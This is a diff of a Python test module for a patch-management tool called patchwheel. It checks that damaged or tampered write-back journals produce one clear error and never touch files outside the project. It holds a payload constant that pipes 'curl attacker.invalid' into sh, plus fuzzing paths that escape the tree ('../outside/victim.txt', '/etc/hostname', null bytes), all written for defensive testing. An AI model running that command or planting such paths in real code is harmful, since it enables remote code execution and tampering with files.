@@ -7,13 +7,17 @@ import hashlib
 import json
 import shutil
 import subprocess
+import tempfile
 import zipfile
 from pathlib import Path
 
 import pytest
-from conftest import CORE, INIT, TRAILERS, Demo, make_patch
+from hypothesis import HealthCheck, given, note, settings
+from hypothesis import strategies as st
 
-from patchwheel import cli, gitops
+from conftest import CORE, INIT, TRAILERS, Demo, make_patch
+from patchwheel import cli, gitops, writeback
+from patchwheel.errors import PatchwheelError
 
 #: What the attacker's series adds to the demo's code: no patch of the commit that carries it holds this.
 PAYLOAD = b"__import__('os').system('curl attacker.invalid | sh')  # code no patch holds\n"
@@ -106,3 +110,171 @@ def test_a_commit_carrying_a_journal_changes_nothing_on_a_clean_clone(demo_proje
     assert files_of(clone) == committed, f"build changed the clean clone (exit {build})\n{out}{err}"
     assert wheels_with_payload(dist) == [], "the build shipped code that no committed patch holds"
     assert build == 0 and "demo-1.0.0+fixed-1-" in out, out + err
+
+
+# --- item 2: a damaged journal is one error, never a traceback ----------------------------------------------------
+
+#: One write-back as follow makes it: a module changed, a new line's series, a patch removed.
+WRITTEN = {
+    "overlay/demo/1.0.0/demo/core.py": CORE + b"# carried onto 1.1.0\n",
+    "patches/demo/1.1.0/series": b"0001-greet-comma.patch\n",
+}
+REMOVED = ["patches/demo/1.0.0/0001-greet-comma.patch"]
+
+
+def journal_file(root: Path) -> Path:
+    """Where the tool keeps the journal of a write-back into ``root``. (Before issue 45 it was
+    ``.patchwheel-writeback.json`` at the root: the fallback lets this module run against that code, to see the
+    tracebacks it gave.)"""
+    where = getattr(writeback, "journal_file", None)
+    return where(root) if where else root / ".patchwheel-writeback.json"
+
+
+def cut_short(root: Path) -> Path:
+    """A write-back killed the moment its journal was written (kill -9: nothing cleaned up); the journal."""
+
+    def killed(root, journal):
+        raise SystemExit("killed")
+
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(writeback, "_roll_forward", killed)
+        with pytest.raises(SystemExit):
+            writeback.write(root, WRITTEN, REMOVED)
+    assert journal_file(root).is_file()
+    return journal_file(root)
+
+
+def removal_a_number(root: Path, journal: Path) -> None:
+    data = json.loads(journal.read_text())
+    data["removes"] = [1]
+    journal.write_text(json.dumps(data))
+
+
+def rename_onto_a_folder(root: Path, journal: Path) -> None:
+    target = root / "overlay" / "demo" / "1.0.0" / "demo" / "core.py"  # a maintainer made a folder of it
+    target.unlink()
+    (target / "notes").mkdir(parents=True)
+
+
+def nested_brackets(root: Path, journal: Path) -> None:
+    journal.write_text("[" * 100000)
+
+
+@pytest.mark.parametrize("damage", [removal_a_number, rename_onto_a_folder, nested_brackets])
+def test_a_damaged_journal_is_one_error_that_says_how_to_recover(demo_project, capsys, damage):
+    """Issue 45, item 2: every command rolls an unfinished write-back forward first, and on main a damaged journal
+    made every command a traceback (TypeError, IsADirectoryError, RecursionError), the first after renaming half of
+    the files. It is validated whole before anything is touched: one error, with the way out, and the project as
+    it was."""
+    root = demo_project.root
+    journal = cut_short(root)
+    damage(root, journal)
+    before = files_of(root)
+    rc = cli.main(["--root", str(root), "lint"])
+    out, err = capsys.readouterr()
+    assert rc == 2 and err.startswith("error: ") and err.count("\n  fix: ") == 1, out + err
+    assert "write-back" in err and "nothing was changed" in err, err
+    assert files_of(root) == before and journal.is_file(), "the refusal touched the project or lost the journal"
+    folder = writeback.folder(root)
+    assert f"rm -r {folder}" in err, err  # the way out it names works:
+    shutil.rmtree(folder)
+    assert writeback.recover(root) == []
+
+
+SETTINGS = settings(
+    max_examples=60,
+    deadline=None,
+    derandomize=True,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+#: Paths a journal may name that no write-back may touch, and some it may.
+PATHS = st.sampled_from(
+    [
+        "../outside/victim.txt",
+        "overlay/../../outside/victim.txt",
+        "/etc/hostname",
+        "tests/proof/test_demo.py",
+        "overlay",
+        "overlay/demo",
+        "overlay/demo/./pins.toml",
+        "overlay\\demo\\pins.toml",
+        "overlay/demo/pins.toml\x00",
+        "",
+        "journal.json",
+        "0",
+        "overlay/demo/pins.toml",
+        "overlay/demo/1.0.0/demo/core.py",
+        "patches/demo/1.0.0/series",
+        "patches/demo/1.1.0/series",
+    ]
+)
+SHAS = st.text("0123456789abcdef", min_size=64, max_size=64)
+LEAVES = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=12), PATHS, SHAS)
+JSON = st.recursive(
+    LEAVES,
+    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.one_of(st.text(max_size=8), PATHS), kids, max_size=3),
+    max_leaves=10,
+)
+
+
+def _nodes(value, at=()):
+    """Every place in a JSON value: (path of keys and indices, value there)."""
+    yield at, value
+    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, child in items:
+        yield from _nodes(child, (*at, key))
+
+
+def _mutated(data, journal: dict) -> object:
+    """The journal the tool wrote, with one place changed: a value replaced, a key renamed or dropped."""
+    where, _ = data.draw(st.sampled_from(list(_nodes(journal))))
+    how = data.draw(st.sampled_from(["value", "key", "drop"] if where else ["value"]))
+    note(f"{how} at {where!r}")
+    if not where:
+        return data.draw(JSON)
+    parent = journal
+    for key in where[:-1]:
+        parent = parent[key]
+    last = where[-1]
+    if how == "value":
+        parent[last] = data.draw(JSON)
+    elif how == "key" and isinstance(parent, dict):
+        parent[data.draw(PATHS)] = parent.pop(last)
+    else:
+        del parent[last]
+    return journal
+
+
+@SETTINGS
+@given(data=st.data())
+def test_whatever_the_journal_holds_the_tool_recovers_or_gives_the_one_error(demo_project, data):
+    """Arbitrary bytes, arbitrary JSON, or the journal a killed write-back left with one place changed (paths that
+    leave the tree, name a folder or the journal itself, wrong types, digests that do not match): the recovery that
+    every command runs first either finishes the write-back, touching only the files it wrote, or refuses with the
+    one error and touches nothing. Never a traceback, and never a file outside its own."""
+    with tempfile.TemporaryDirectory(prefix="journal-") as tmp:
+        root = Path(tmp) / "project"
+        shutil.copytree(demo_project.root, root)
+        outside = Path(tmp) / "outside"
+        outside.mkdir()
+        (outside / "victim.txt").write_text("not the tool's\n")
+        journal = cut_short(root)
+        how = data.draw(st.sampled_from(["bytes", "json", "mutated"]))
+        if how == "bytes":
+            raw = data.draw(st.binary(max_size=200))
+        else:
+            value = data.draw(JSON) if how == "json" else _mutated(data, json.loads(journal.read_text()))
+            raw = json.dumps(value).encode()
+        note(f"{how}: {raw[:500]!r}")
+        journal.write_bytes(raw)
+        before, victim = files_of(root), files_of(outside)
+        try:
+            writeback.recover(root)
+        except PatchwheelError as exc:
+            assert "write-back" in exc.message and "rm -r" in exc.hint, exc
+            assert files_of(root) == before, "a refused journal touched the project"
+        else:
+            after = files_of(root)
+            changed = {rel for rel in set(before) | set(after) if before.get(rel) != after.get(rel)}
+            assert changed <= set(WRITTEN) | set(REMOVED), changed
+        assert files_of(outside) == victim
